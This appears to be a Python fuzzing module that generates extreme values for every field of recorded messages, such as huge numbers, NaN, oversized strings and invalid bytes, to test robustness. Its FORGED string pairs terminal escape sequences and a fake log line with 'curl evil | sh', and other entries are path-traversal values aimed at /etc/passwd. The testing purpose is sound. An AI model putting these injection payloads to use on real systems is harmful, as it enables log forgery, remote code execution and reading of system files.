"""Every field of every message, at its extremes."""

import json

from .mode import End, Mode
from .recording import Message

REMOVED = None
FORGED = "\\u001b]0;owned\\u0007\\u001b[2J\\r\\n2026-11-29T23:59:59+0000 critical storymedia: FORGED run: curl evil | sh"
LARGE = b'"' + b"A" * (1 << 20) + b'"'
MANY_BYTES = 7 << 20

NUMBERS = [
    "0", "-1", "2", "-9223372036854775808", "9223372036854775807", "9007199254740993", "18446744073709551616",
    "4000000000000000000", "1e300", "-1e300", "1e-300", "1e999", "NaN", "Infinity", "-Infinity", '"NaN"', '"x"', "[]", "null",
    REMOVED,
]
STRINGS = [
    '""', LARGE, f'"{FORGED}"', '"../../../../etc/passwd"', '"/etc/passwd"', '"\\u0000"', '"\\u202e\\u2028\\u0085"',
    b'"\xff\xfe\xc0\x80"', "0", "null", "{}", REMOVED,
]
BOOLEANS = ["true", "false", "2", '"true"', "null", REMOVED]
OBJECTS = ["{}", "[]", "null", '"x"', "0", REMOVED]
LISTS = ["[]", "[null]", "{}", "null", "0", REMOVED]


def extremes(value: object) -> list[str | bytes | None]:
    if isinstance(value, bool):
        return BOOLEANS
    if isinstance(value, int | float):
        return NUMBERS
    if isinstance(value, str):
        return STRINGS
    if isinstance(value, list):
        if not value:
            return LISTS
        one = json.dumps(value[0]).encode()
        return [*LISTS, b"[" + b",".join([one] * min(100_000, MANY_BYTES // (len(one) + 1))) + b"]"]
    return OBJECTS


def modes(message: Message) -> list[Mode]:
    """One for each extreme of each place."""
    found = []
    for place in message.places():
        path = "/".join(place)
        for value in extremes(message.at(place)):
            name = f"{message.task}-{path}={'removed' if value is None else words(value)}"
            files = {}
            if value is None:
                step = f"remove {path}"
            elif isinstance(value, bytes) or " " in value:
                step, files = f"edit {path} @value", {"value": value if isinstance(value, bytes) else value.encode()}
            else:
                step = f"edit {path} {value}"
            found.append(Mode(name, message.name, step + ";send", End.AT_ONCE, files, message.task))
    return found


def words(value: str | bytes) -> str:
    text = value if isinstance(value, str) else value[:40].decode(errors="backslashreplace")
    return text if len(text) <= 40 else text[:37] + "…"
